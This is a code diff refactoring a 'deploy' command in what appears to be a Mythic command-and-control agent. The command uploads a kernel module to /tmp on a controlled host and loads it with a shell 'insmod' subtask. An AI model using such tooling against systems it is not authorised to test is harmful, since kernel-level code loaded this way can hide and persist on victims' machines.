@@ -1,7 +1,14 @@
 from mythic_container.MythicCommandBase import *
+import asyncio
 import json
 from mythic_container.MythicRPC import *
-import os
+
+from .upload import get_file_meta
+
+# Status messages sent back to Mythic from the upload callback
+_MSG_UPLOAD_NOT_COMPLETE = b"Upload subtask did not complete"
+_MSG_UPLOAD_FAILED = b"Failed to upload kernel module: "
+_MSG_NO_TARGET_PATH = b"Could not retrieve target path from parent task"
 
 
 class DeployArguments(TaskArguments):
@@ -42,54 +49,57 @@ async def upload_complete(completionMsg: PTTaskCompletionFunctionMessage) -> PTT
             await SendMythicRPCResponseCreate(
                 MythicRPCResponseCreateMessage(
                     TaskID=completionMsg.TaskData.Task.ID,
-                    Response="Upload subtask did not complete".encode()
+                    Response=_MSG_UPLOAD_NOT_COMPLETE
                 )
             )
             return response
             
-        if "error" in completionMsg.SubtaskData.Task.Status.lower():
+        # Mythic reports failures as free-form "error..." status strings so a
+        # case-insensitive substring check is needed
+        status = completionMsg.SubtaskData.Task.Status
+        if "error" in status.lower():
             response.Success = False
-            response.TaskStatus = f"error: Failed to upload kernel module: {completionMsg.SubtaskData.Task.Status}"
+            response.TaskStatus = f"error: Failed to upload kernel module: {status}"
             await SendMythicRPCResponseCreate(
                 MythicRPCResponseCreateMessage(
                     TaskID=completionMsg.TaskData.Task.ID,
-                    Response=f"Failed to upload kernel module: {completionMsg.SubtaskData.Task.Status}".encode()
+                    Response=_MSG_UPLOAD_FAILED + status.encode()
                 )
             )
             return response
         
-        # Get the filename from the parent task's args
-        filename = completionMsg.TaskData.args.get_arg("filename")
-        if not filename:
+        # Get the upload path from the parent task's args
+        remote_path = completionMsg.TaskData.args.get_arg("target_path")
+        if not remote_path:
             response.Success = False
-            response.TaskStatus = "error: Could not retrieve filename from parent task"
+            response.TaskStatus = "error: Could not retrieve target path from parent task"
             await SendMythicRPCResponseCreate(
                 MythicRPCResponseCreateMessage(
                     TaskID=completionMsg.TaskData.Task.ID,
-                    Response="Could not retrieve filename from parent task".encode()
+                    Response=_MSG_NO_TARGET_PATH
                 )
             )
             return response
-            
-        remote_path = f"/tmp/{filename}"
         
         # Create insmod subtask - shell command expects a simple string, not JSON
         insmod_command = f"insmod {remote_path}"
         
-        await SendMythicRPCTaskCreateSubtask(
-            MythicRPCTaskCreateSubtaskMessage(
-                TaskID=completionMsg.TaskData.Task.ID,
-                CommandName="shell",
-                Params=insmod_command  # Shell command expects string, not JSON
-            )
-        )
-        
-        # Send status update
-        await SendMythicRPCResponseCreate(
-            MythicRPCResponseCreateMessage(
-                TaskID=completionMsg.TaskData.Task.ID,
-                Response=f"Kernel module uploaded to {remote_path}. Running insmod...".encode()
-            )
+        # Create the subtask and send the status update together since neither
+        # depends on the other
+        await asyncio.gather(
+            SendMythicRPCTaskCreateSubtask(
+                MythicRPCTaskCreateSubtaskMessage(
+                    TaskID=completionMsg.TaskData.Task.ID,
+                    CommandName="shell",
+                    Params=insmod_command  # Shell command expects string, not JSON
+                )
+            ),
+            SendMythicRPCResponseCreate(
+                MythicRPCResponseCreateMessage(
+                    TaskID=completionMsg.TaskData.Task.ID,
+                    Response=f"Kernel module uploaded to {remote_path}. Running insmod...".encode()
+                )
+            ),
         )
         
     except Exception as e:
@@ -132,11 +142,9 @@ class DeployCommand(CommandBase):
         
         try:
             # Get the uploaded file information
-            file_resp = await SendMythicRPCFileSearch(
-                MythicRPCFileSearchMessage(
-                    TaskID=taskData.Task.ID, 
-                    AgentFileID=taskData.args.get_arg("file")
-                )
+            # The result is cached so the upload subtask does not search again
+            file_resp = await get_file_meta(
+                taskData.Task.ID, taskData.Task.CallbackID, taskData.args.get_arg("file")
             )
             
             if not file_resp.Success:
@@ -152,22 +160,22 @@ class DeployCommand(CommandBase):
                     f"File must be a kernel module (.ko file). Got: {original_file_name}"
                 )
             
-            # Store the filename for later use in the callback
-            taskData.args.add_arg("filename", original_file_name, type=ParameterType.String)
-            
             # Set the remote path to /tmp/filename
             remote_path = f"/tmp/{original_file_name}"
             
+            # Store the remote path for later use in the callback
+            taskData.args.add_arg("target_path", remote_path, type=ParameterType.String)
+            
             # Create upload subtask with completion callback
             # Upload command expects JSON parameters
             await SendMythicRPCTaskCreateSubtask(
                 MythicRPCTaskCreateSubtaskMessage(
                     TaskID=taskData.Task.ID,
                     CommandName="upload",
-                    Params=json.dumps({
-                        "file": taskData.args.get_arg("file"),
-                        "remote_path": remote_path
-                    }),
+                    # The parameters always have the same two string fields so only
+                    # the values need to be JSON encoded
+                    Params=f'{{"file":{json.dumps(taskData.args.get_arg("file"))},'
+                           f'"remote_path":{json.dumps(remote_path)}}}',
                     SubtaskCallbackFunction="upload_complete"
                 )
             )